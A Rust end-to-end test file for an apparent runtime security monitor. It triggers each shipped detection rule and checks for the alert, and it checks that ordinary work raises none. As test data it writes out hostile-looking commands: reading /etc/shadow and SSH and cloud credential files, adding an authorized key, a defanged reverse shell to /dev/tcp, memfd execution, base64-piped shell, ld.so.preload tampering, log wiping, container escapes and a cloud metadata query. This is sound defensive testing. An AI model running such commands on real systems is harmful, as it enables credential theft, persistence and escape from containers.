//! The policies built into the binary: each rule fires on a real action, and ordinary work makes
//! no alert.

use std::collections::BTreeSet;
use std::fs;
use std::process::Command;

use anyhow::{Context as _, Result, ensure};
use monitor_tests::daemon::{Daemon, Mark, is_from};
use monitor_tests::docker::Dockerd;
use monitor_tests::tree::Tree;
use monitor_tests::{cgroup, daemon, docker, paths, skip, skip_if};
use serde_json::Value;

use crate::actions::{Programs, run, succeed};
use crate::sandbox::{IMAGE, Sandbox, dockerd};
use crate::world::{PATIENCE, configuration, docker_settings, text};

/// An action of a shell on the host.
struct Act {
    rule: &'static str,
    /// The name that the shell goes by.
    shell: &'static str,
    /// `FOLDER` stands for the case's own, `SIGN` for what the act is known by.
    script: &'static str,
}

const fn act(rule: &'static str, script: &'static str) -> Act {
    Act {
        rule,
        shell: "worker",
        script,
    }
}

/// ptrace is 101, `PTRACE_ATTACH` 16.
const ATTACH: &str = "perl -e 'my $p = fork; if (!$p) { sleep 30; exit } \
     syscall(101, 16, $p, 0, 0); waitpid($p, 0); kill 9, $p; waitpid($p, 0);'";

/// In a cgroup as Docker names them, and back.
const JOIN: &str = "for root in /sys/fs/cgroup/unified /sys/fs/cgroup; do \
     [ -e $root/cgroup.controllers ] && break; done; made=$root/e2e-join; \
     box=$made/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef; \
     mkdir -p $box; echo $$ > $box/cgroup.procs; echo $$ > $root/cgroup.procs; \
     rmdir $box $made";

/// `memfd_create` is 319.
const FROM_MEMORY: &str = "perl -MIO::Handle -e 'my $fd = syscall(319, my $name = q(payload), 0); \
     open(my $out, q(>&=), $fd); open(my $in, q(<), q(/bin/true)); \
     binmode $out; binmode $in; local $/; print {$out} <$in>; $out->flush; \
     exec qq(/proc/$$/fd/$fd)'";

/// `AF_UNIX` and `SOCK_STREAM` are 1. Nobody listens, and the attempt counts.
const CONNECT: &str = "/bin/perl -e 'socket(my $s, 1, 1, 0); \
     connect($s, pack(q(Sa*), 1, qq(/tmp/docker.sock\\0)))'";

/// In a network of its own, where a documentation address is local.
const TO_THE_INTERNET: &str = "unshare -n bash -c 'SIGN ip link set lo up; \
     ip addr add 203.0.113.9/32 dev lo; busybox nc -l -p 443 & \
     for try in 1 2 3 4 5 6 7 8 9; do \
       (exec 3<>/dev/tcp/203.0.113.9/443) 2>/dev/null && break; busybox sleep 0.1; done; \
     kill %1 2>/dev/null'";

const ON_THE_HOST: &[Act] = &[
    act(
        "Password file read by an unexpected program",
        "cat /etc/shadow",
    ),
    act(
        "SSH private key read",
        "mkdir -p FOLDER/.ssh; echo key > FOLDER/.ssh/id_test; cat FOLDER/.ssh/id_test",
    ),
    act(
        "SSH login key added",
        "mkdir -p FOLDER/.ssh; echo key >> FOLDER/.ssh/authorized_keys",
    ),
    act(
        "Cloud credentials read by a general tool",
        "mkdir FOLDER/.aws; echo key > FOLDER/.aws/credentials; cat FOLDER/.aws/credentials",
    ),
    act("Process attached to another", ATTACH),
    Act {
        rule: "Shell started by a server",
        shell: "nginx",
        script: "/bin/sh -c true",
    },
    act("Host process hidden in a container's cgroup", JOIN),
    act("Program run from memory", FROM_MEMORY),
    act(
        "Program run from a hiding place",
        "cp /bin/true /dev/shm/e2e-$$; /dev/shm/e2e-$$; rm /dev/shm/e2e-$$",
    ),
    act(
        "Reverse shell on a command line",
        "bash -c ': bash -i > /dev/null # >& /dev/tcp/203.0.113.1/1 0>&1'",
    ),
    Act {
        rule: "Cryptocurrency miner started",
        shell: "xmrig",
        script: "true",
    },
    act(
        "Hidden command decoded and run",
        "/bin/sh -c 'echo Ogo= | base64 -d | sh'",
    ),
    act(
        "Symbolic link to a protected file",
        "ln -s /etc/shadow FOLDER/link",
    ),
    act(
        "Shell history sent to nowhere",
        "ln -s /dev/null FOLDER/.bash_history",
    ),
    act("Shell connected to the Internet", TO_THE_INTERNET),
];

const IN_A_CONTAINER: &[(&str, &str)] = &[
    (
        "Log file emptied",
        "mkdir -p /var/log; : > /var/log/auth.log",
    ),
    ("Hard link to a protected file", "ln /etc/shadow /tmp/hard"),
    (
        "Library preloaded into every program",
        "echo /tmp/x.so > /etc/ld.so.preload",
    ),
    ("Scheduled job written", "echo > /etc/crontab"),
    (
        "Program that is not part of the image run in a container",
        "cp /bin/busybox /tmp/true; /tmp/true",
    ),
    (
        "Kernel hook written from a container",
        "echo /x > /tmp/release_agent",
    ),
    ("Container engine reached from a container", CONNECT),
    ("Raw disk or memory opened in a container", "cat /dev/sda"),
    (
        "Host namespaces entered from a container",
        "/bin/nsenter -t 1 -m true",
    ),
    (
        "Process moved out of its container's cgroup",
        "echo $$ > /host-cgroup/cgroup.procs",
    ),
    (
        "Kernel module loaded from a container",
        "/bin/insmod /tmp/none.ko",
    ),
    (
        "Container asks for cloud metadata",
        "/bin/nc -w 1 169.254.169.254 80",
    ),
    (
        "Packet socket in a container",
        "/bin/arping -c 1 -w 1 -I lo 127.0.0.1",
    ),
];

fn start(programs: &Programs, docker: &Dockerd) -> Result<Daemon> {
    let config = configuration(programs, &docker_settings(docker))?;
    Daemon::start(&["--config".as_ref(), config.as_os_str()])
}

#[test]
fn every_shipped_rule_fires() -> Result<()> {
    skip_if!(daemon::obstacle());
    skip_if!(docker::obstacle());
    skip_if!(skip::without(&["busybox", "perl", "unshare", "ip"]));
    let acted: BTreeSet<String> = ON_THE_HOST
        .iter()
        .map(|act| act.rule.to_owned())
        .chain(IN_A_CONTAINER.iter().map(|(rule, _)| (*rule).to_owned()))
        .collect();
    assert_eq!(
        acted,
        shipped()?,
        "rules with a case and rules in policies/"
    );
    let docker = Dockerd::start()?;
    let tree = Tree::busybox()?;
    tree.program("bin/perl", &paths::program("perl").context("no perl")?)?;
    docker.import_image(IMAGE, &tree)?;
    let programs = Programs::new()?;
    let mut daemon = start(&programs, &docker)?;
    for (number, act) in ON_THE_HOST.iter().enumerate() {
        on_the_host(&mut daemon, &programs, number, act)?;
    }
    // A disk by name only, and the host's cgroups.
    let cgroups = format!("{}:/host-cgroup", cgroup::unified()?.display());
    let options = ["--device", "/dev/null:/dev/sda", "--volume", &cgroups];
    let sandbox = Sandbox::start(&docker, "e2e-defaults", &options)?;
    for (rule, script) in IN_A_CONTAINER {
        let mark = daemon.mark()?;
        sandbox.sh(script)?;
        daemon
            .wait_for_since(mark, rule, PATIENCE, |alert| {
                is_from(alert, rule)
                    && text(&alert["output_fields"], "container.name") == sandbox.name
            })
            .with_context(|| (*script).to_owned())?;
    }
    Ok(())
}

fn on_the_host(daemon: &mut Daemon, programs: &Programs, number: usize, act: &Act) -> Result<()> {
    let folder = programs.folder().display().to_string();
    // In the command line of the shell, which is the program or its parent.
    let sign = format!(": e2e-act-{number};");
    let script = format!("SIGN {}; exit 0", act.script);
    let script = script.replace("FOLDER", &folder).replace("SIGN", &sign);
    let mark = daemon.mark()?;
    run(&mut programs.shell(act.shell, &script)?)?;
    daemon
        .wait_for_since(mark, act.rule, PATIENCE, |alert| {
            is_from(alert, act.rule) && alert.to_string().contains(&sign)
        })
        .map(drop)
}

/// The rules in `policies/`.
fn shipped() -> Result<BTreeSet<String>> {
    let mut rules = BTreeSet::new();
    for file in fs::read_dir(paths::root().join("policies"))? {
        let text = fs::read_to_string(file?.path())?;
        let names = text
            .lines()
            .filter_map(|line| line.strip_prefix("- rule: "));
        rules.extend(names.map(str::to_owned));
    }
    Ok(rules)
}

#[test]
fn ordinary_work_makes_no_alert() -> Result<()> {
    skip_if!(daemon::obstacle());
    skip_if!(docker::obstacle());
    let docker = dockerd()?;
    let programs = Programs::new()?;
    let mut daemon = start(&programs, &docker)?;
    let begin = daemon.mark()?;
    // The machine on its own.
    succeed(Command::new("sleep").arg("3"))?;
    fenced(&mut daemon, &programs, begin, "idle")?;

    let begin = daemon.mark()?;
    succeed(Command::new("ls").args(["-lR", "/etc"]))?;
    succeed(Command::new("apt-get").arg("--version"))?;
    succeed(Command::new("apt-get").args(["--simulate", "install", "busybox-static"]))?;
    succeed(Command::new("dpkg").arg("--list"))?;
    succeed(Command::new("passwd").args(["--status", "root"]))?;
    succeed(Command::new("su").args(["-s", "/bin/sh", "-c", "id", "nobody"]))?;
    succeed(Command::new("find").args(["/etc", "-type", "f"]))?;
    let cargo = std::env::var_os("CARGO").unwrap_or_else(|| "cargo".into());
    succeed(Command::new(cargo).arg("--version"))?;
    let echo = ["run", "--rm", "--network", "none", IMAGE, "echo", "hello"];
    docker.text(&echo)?;
    let sandbox = Sandbox::start(&docker, "e2e-plain", &[])?;
    sandbox.sh("ls -lR /etc; cat /etc/passwd; id; touch /tmp/file")?;
    drop(sandbox);
    fenced(&mut daemon, &programs, begin, "work")
}

/// Makes sure that no alert came since `begin`: acts, and the action's alert is the first.
fn fenced(daemon: &mut Daemon, programs: &Programs, begin: Mark, sign: &str) -> Result<()> {
    let rule = "Symbolic link to a protected file";
    let link = programs.folder().join(sign);
    succeed(Command::new("ln").args(["-s", "/etc/shadow"]).arg(&link))?;
    let link = link.display().to_string();
    let fence = |alert: &Value| text(&alert["output_fields"], "evt.arg.linkpath") == link;
    daemon.wait_for_since(begin, rule, PATIENCE, fence)?;
    let alerts = daemon.alerts_since(begin)?;
    let first = alerts.first().context("no alert")?;
    ensure!(fence(first), "{sign}: {first:#}");
    Ok(())
}
